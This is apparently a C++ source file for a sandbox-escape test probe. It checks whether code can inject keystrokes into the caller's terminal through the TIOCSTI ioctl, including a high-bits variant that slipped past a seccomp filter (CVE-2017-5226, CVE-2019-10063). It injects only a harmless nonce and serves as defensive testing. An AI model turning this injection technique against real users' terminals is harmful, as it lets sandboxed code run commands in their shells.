// breakout-probe-tiocsti: inject input into a terminal with TIOCSTI (class tty-inject; CVE-2017-5226).
//
// ioctl_tty(2) TIOCSTI pushes one byte into a terminal's input queue: whatever
// reads that terminal next (the caller's shell once the sandbox has exited) runs
// it. CVE-2017-5226 (bubblewrap: fixed by setsid, --new-session); CVE-2019-10063
// (flatpak: a seccomp filter comparing the full 64-bit request missed TIOCSTI
// with high bits set, which the kernel truncates to 32 bits).
//
//   --target tty:stdin   inject "BREAKOUT-NONCE <nonce>\n" into fd 0 (the harness's pty)
//   --target own         the control: open a pty ourselves (posix_openpt(3)), give it to a
//                        child as controlling terminal, inject own_token(nonce), read it
//                        back from the slave and print "found <what was read>"
//   --variant plain|high-bits   the request as TIOCSTI, or TIOCSTI | 1 << 32 via syscall(2)
//   --nonce N
//
// Reports whether fd 0 is a tty, whether we have a controlling terminal, and the
// errno of the first failed ioctl (EPERM: not our ctty and no CAP_SYS_ADMIN, or
// dev.tty.legacy_tiocsti = 0). Exit 0 ok, 1 failed, 64 usage.
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>

#include <cerrno>
#include <cstdlib>
#include <string>

#include "probes/common/args.h"
#include "shared/own_token.h"
#include "probes/common/posix.h"
#include "probes/common/report.h"

namespace {

constexpr const char* kUsage =
    "usage: breakout-probe-tiocsti --target tty:stdin|own --variant plain|high-bits --nonce N [--witness PATH]\n";

// Returns 0 or the errno of the first byte that failed.
int inject(int fd, const std::string& bytes, bool high_bits) {
  for (char c : bytes) {
    long r = high_bits ? ::syscall(SYS_ioctl, fd, static_cast<unsigned long>(TIOCSTI) | (1UL << 32), &c)
                       : ::ioctl(fd, TIOCSTI, &c);
    if (r != 0) return errno;
  }
  return 0;
}

// The control: a pty of our own as a child's controlling terminal.
int own_pty(const std::string& token, bool high_bits, const char** step) {
  *step = "posix_openpt";
  int master = ::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (master < 0) return errno;
  *step = "grantpt/unlockpt";
  if (::grantpt(master) != 0 || ::unlockpt(master) != 0) return errno;
  const char* name = ::ptsname(master);
  if (!name) return errno;
  const std::string slave_path = name;
  std::fflush(stdout);
  pid_t child = ::fork();
  if (child < 0) return errno;
  if (child == 0) {
    ::setsid();
    int s = ::open(slave_path.c_str(), O_RDWR);
    if (s < 0) ::_exit(10);
    ::ioctl(s, TIOCSCTTY, 0);
    termios t{};
    ::tcgetattr(s, &t);
    ::cfmakeraw(&t);
    ::tcsetattr(s, TCSANOW, &t);
    int e = inject(s, token, high_bits);
    if (e) ::_exit(20 + (e & 0x3f) % 40);
    char buf[128] = {};
    ::fcntl(s, F_SETFL, O_NONBLOCK);
    ssize_t n = ::read(s, buf, sizeof buf - 1);
    if (n > 0) std::printf("found %.*s\n", static_cast<int>(n), buf);
    std::fflush(stdout);
    ::_exit(n > 0 ? 0 : 11);
  }
  int st = -1;  // not reaped within 2 s: not WIFEXITED, so EIO below (0 would read as the child's success)
  for (int i = 0; i < 200 && ::waitpid(child, &st, WNOHANG) == 0; ++i) breakout::probe::sleep_ms(10);
  ::kill(child, SIGKILL);
  ::waitpid(child, nullptr, WNOHANG);
  ::close(master);
  *step = "own pty child";
  return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : EIO;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace breakout::probe;
  Args args(argc, argv, kUsage,
            {{"target", Args::kValue}, {"variant", Args::kValue}, {"nonce", Args::kValue}, {"witness", Args::kValue}});
  const std::string target = args.require("target"), variant = args.require("variant"), nonce = args.require("nonce");
  if (variant != "plain" && variant != "high-bits") args.usage_error("unknown --variant " + variant);
  ProbeReport rep("tiocsti");
  if (auto w = args.get("witness")) rep.witness_to(*w);
  rep.set("target", target);
  rep.set("variant", variant);
  rep.set("stdin_is_tty", ::isatty(0) == 1);
  int ctty = ::open("/dev/tty", O_RDONLY | O_CLOEXEC | O_NOCTTY);
  rep.set("has_ctty", ctty >= 0);
  if (ctty >= 0) ::close(ctty);
  const bool high = variant == "high-bits";
  const char* step = "TIOCSTI";
  int err = 0;
  if (target == "tty:stdin") err = inject(0, "BREAKOUT-NONCE " + nonce + "\n", high);
  else if (target == "own") err = own_pty(breakout::own_token(nonce), high, &step);
  else args.usage_error("--target must be tty:stdin or own");
  if (err) rep.fail(step, err);
  else rep.succeed();
  std::fflush(stdout);
  rep.emit();
  return rep.exit_code();
}
